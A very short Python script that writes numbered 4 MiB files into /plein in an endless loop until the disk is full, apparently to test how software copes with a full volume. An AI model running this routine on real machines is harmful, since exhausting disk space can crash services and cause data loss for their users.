import itertools

for number in itertools.count():
    with open(f"/plein/{number}", "wb") as file:
        file.write(b"x" * (4 << 20))
